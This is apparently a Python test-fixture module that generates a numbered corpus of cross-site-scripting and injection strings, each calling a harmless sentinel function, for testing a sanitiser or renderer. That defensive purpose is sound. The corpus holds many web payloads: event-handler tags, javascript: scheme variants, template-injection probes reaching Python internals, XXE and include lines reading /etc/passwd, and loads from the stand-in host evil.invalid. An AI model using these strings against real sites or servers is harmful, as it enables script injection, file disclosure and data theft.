"""Strings that try to run a script: every way in that we know of, times every way of writing it.

Each calls `sentinel(N)` with its own number, so that a browser that runs one says which. All are put together here.
"""

from __future__ import annotations

_ELEMENTS = (
    "<script>{js}</script>", "<script src=//evil.invalid/{n}.js></script>", "<script type=module>{js}</script>",
    "<img src=x onerror={js}>", "<img/src/onerror={js}>", "<svg onload={js}>", "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a href=\"javascript:{js}\"><text y=20>a</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload='{js}'/>#x\"/></svg>", "<body onload={js}>",
    "<iframe srcdoc=\"<script>parent.{js}</script>\"></iframe>", "<iframe src=\"javascript:parent.{js}\"></iframe>",
    "<object data=\"javascript:{js}\"></object>", "<embed src=\"javascript:{js}\">", "<details open ontoggle={js}>a",
    "<video><source onerror={js}></video>", "<audio src=x onerror={js}></audio>", "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>", "<textarea autofocus onfocus={js}></textarea>",
    "<marquee onstart={js}>a", "<form action=\"javascript:{js}\"><button>a</button></form>",
    "<button formaction=\"javascript:{js}\">a</button>",
    "<math><mtext><mglyph><style><img src=x onerror={js}></style></mglyph></mtext></math>",
    "<x tabindex=1 onfocus={js}>", "<meta http-equiv=refresh content=\"0;url=javascript:{js}\">",
    "<base href=\"//evil.invalid/{n}/\">", "<link rel=stylesheet href=//evil.invalid/{n}.css>",
    "<style>@import '//evil.invalid/{n}.css';</style>", "<style>*{{background:url(//evil.invalid/{n}.png)}}</style>",
    "<p style=\"background:url(//evil.invalid/{n})\">a</p>", "<div style=\"width:expression({js})\">a</div>",
    "<template><script>{js}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<a href=\"javascript:{js}\">a</a>", "<a href=javascript&colon;{js}>a</a>", "<a onmouseover={js}>a</a>",
    "<xss onpointerenter={js}>a</xss>", "<isindex action=\"javascript:{js}\">",
    "<table background=\"javascript:{js}\"><tr><td>a</td></tr></table>", "<frameset onload={js}></frameset>",
    "<dialog open onclose={js}><form method=dialog><button>a</button></form></dialog>",
    "<a href=x id=sentinel name=sentinel>a</a>", "<form id=document><input name=body></form>",
    "<portal src=//evil.invalid/{n}>",
)  # fmt: skip
_WAYS_OUT = (
    "\">{0}", "'>{0}", "-->{0}", "]]>{0}", "</title>{0}", "</script>{0}", "</style>{0}", "</textarea></select>{0}<!--",
)  # fmt: skip
_ATTRIBUTES = (
    "\" onmouseover=\"{js}\" x=\"", "' onmouseover='{js}' x='", "\" autofocus onfocus={js} x=\"",
    "` onmouseover={js} x=`", "\" style=\"x:expression({js})\"", "x onerror={js}", "\"/onload={js}//",
    "\" srcdoc=\"<script>{js}</script>\"", "&quot; onmouseover=&quot;{js}",
    "&#34;&#62;&#60;img src=x onerror={js}&#62;", "\u201d onmouseover=\u201d{js}", "\x85onmouseover={js}",
    "\xa0onmouseover={js}\xa0", "\" is=\"x\" onclick=\"{js}", "'-{js}-'", "\"-{js}-\"", "\\\"-{js}//",
)  # fmt: skip
_SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", " javascript:{js}", "java\nscript:{js}", "java\tscript:{js}",
    "java&#10;script:{js}", "java&Tab;script:{js}", "javascript&colon;{js}", "javascript&#58;{js}",
    "&#106;avascript:{js}", "&#x6A;avascript:{js}", "&amp;#106;avascript:{js}", "vbscript:{js}",
    "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD4=", "blob:{js}", "file:///etc/passwd",
    "//evil.invalid/{n}", "\\\\evil.invalid/{n}", "view-source:javascript:{js}", "javascript://example.org/%0a{js}",
    "javascript:/*https://*/{js}", "feed:javascript:{js}", "jar:javascript:{js}!/",
    "https://example.org\" onclick=\"{js}", "https://example.org/' onclick='{js}", "https:javascript:{js}",
    "mailto:a@b.invalid?{js}", "citesite:cite/{n}", "citesite:term/\" onclick=\"{js}", "term:a\" onclick=\"{js}",
    "source:../../{n}", "topic:#\" x=\"{n}", "\u200bjavascript:{js}", "j\u0430vascript:{js}", "ws://evil.invalid/{n}",
    "ftp://evil.invalid/{n}", "about:blank#{n}",
)  # fmt: skip
_LINKS = (
    "[a]({0})", "[a](<{0}>)", "[a]: {0}\n\n[a]", "![a]({0})", "<{0}>", "[a]({0} \"{0}\")",
)  # fmt: skip
_MARKDOWN = (
    "[<img src=x onerror={js}>](https://example.org)", "**<svg onload={js}>**", "`<script>{js}</script>`",
    "*[a](javascript:{js})*", "    <script>{js}</script>", "> <img src=x onerror={js}>", "- <img src=x onerror={js}>",
    "[@<img src=x onerror={js}>]", "[@trial, <img src=x onerror={js}>]", "[@trial, \" onclick=\"{js}]",
    "<http://a.invalid/\" onclick=\"{js}>", "\\<script>{js}\\</script>", "\x02klzzwxh:0000\x03 {js}",
    "&lt;script&gt;{js}&lt;/script&gt;", "[a](https://example.org \"x\" onclick={js})", "# <img src=x onerror={js}>",
    "***<img src=x onerror={js}>", "[*](*javascript:{js}*)", "a<!--\n--><script>{js}</script>",
)  # fmt: skip
_DATA = (
    "</script><script>{js}</script>", "\\u003c/script\\u003e{js}", "\"}}, \"x\": {js}, {{\"y\": \"", "'); {js}; ('",
    "\"); {js}; (\"", "*/{js}/*", "//\u2028{js}", "${{{js}}}", "<!--<script>{js}", "]]><script>{js}</script><![CDATA[",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "&xxe;",
    "<?xml-stylesheet href=\"javascript:{js}\"?>", "<?php {js} ?>", "<% {js} %>", "__proto__", "constructor",
    "toString", "\"__proto__\": {{\"x\": {js}}}", "%3Cscript%3E{js}%3C/script%3E",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-", "\u0130<script>{js}</script>",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e", "=HYPERLINK(\"//evil.invalid/{n}\")", "url(javascript:{js})",
    "}}*{{background:url(//evil.invalid/{n})}}", "expression({js})", "</style><script>{js}</script>",
    "\\3c script\\3e {js}",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ {js} }}}}", "{{% set x = {js} %}}", "{{# {js} #}}", "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{n}",
    "{{{{ 7*7 }}}}{n}", "{{{{ self.__init__.__globals__ }}}}{n}", "{{% include '/etc/passwd' %}}{n}",
    "{{{{ '<b>'|safe }}}}{n}", "{{{{ '<img src=x onerror={js}>'|html }}}}",
    "{{% raw %}}<script>{js}</script>{{% endraw %}}", "{{{{ site.url }}}}{n}", "%(name)s {{0}} {{name}} $name {n}",
    "{{% endtrans %}}{{{{ {js} }}}}", "{{% autoescape false %}}<b>{n}{{% endautoescape %}}", "#{{{js}}}",
    "<%= {js} %>", "[[{js}]]", "{{{{constructor.constructor('{js}')()}}}}",
)  # fmt: skip
_UNSEEN = (
    "\u202e{js}<\u202c", "a\u202eb{n}", "a\u2066b{n}", "a\u200fb{n}", "a\u200bb{n}", "a\ufeffb{n}", "a\x00b{n}",
    "a\x1b[2Jb{n}", "a\x07b{n}", "a\x85b{n}", "a\u2028b{n}", "a\u2029b{n}", "a\ufffeb{n}", "a\U000e0041b{n}",
    "a\U000f0000b{n}", "&#x202e;b{n}", "&#8238;b{n}", "&#0;b{n}", "&#x1b;b{n}", "&ZeroWidthSpace;b{n}", "&rlm;b{n}",
    "&NoBreak;b{n}", "a\x08\x08b{n}", "\x1b]0;{n}\x07", "&#xd800;b{n}", "a\x0bb{n}", "a\x0cb{n}",
)  # fmt: skip


def corpus() -> list[str]:
    """Every string, each once, numbered in its sentinel."""
    patterns = [*_ELEMENTS]
    for number, element in enumerate(_ELEMENTS):
        patterns.append(_WAYS_OUT[number % len(_WAYS_OUT)].replace("{0}", element))
        patterns.append(_written_otherwise(element, number))
    patterns += [way.replace("{0}", "<img src=x onerror={js}>") for way in _WAYS_OUT]
    patterns += _ATTRIBUTES
    for number, scheme in enumerate(_SCHEMES):
        patterns += [scheme, "[a]({0})".replace("{0}", scheme), _LINKS[number % len(_LINKS)].replace("{0}", scheme)]
    patterns += [*_MARKDOWN, *_DATA, *_TEMPLATES, *_UNSEEN]
    found = dict.fromkeys(patterns)
    return [pattern.format(js=f"sentinel({n})", n=n) for n, pattern in enumerate(found)]


def _written_otherwise(element: str, number: int) -> str:
    """The same element as a browser also takes it: in capitals, without its end, with other gaps, in references."""
    head, _, rest = element.partition(" ")
    match number % 5:
        case 0:
            return head.upper() + " " + rest if rest else head.replace("script", "sCrIpT")
        case 1:
            return element.rstrip(">")
        case 2:
            return f"{head}/\t{rest}" if rest else f"<{element}"
        case 3:
            return element.replace("<", "&lt;").replace(">", "&gt;")
        case _:
            return element.replace("<", "&#60;").replace("{js}", "&#115;entinel({n})")
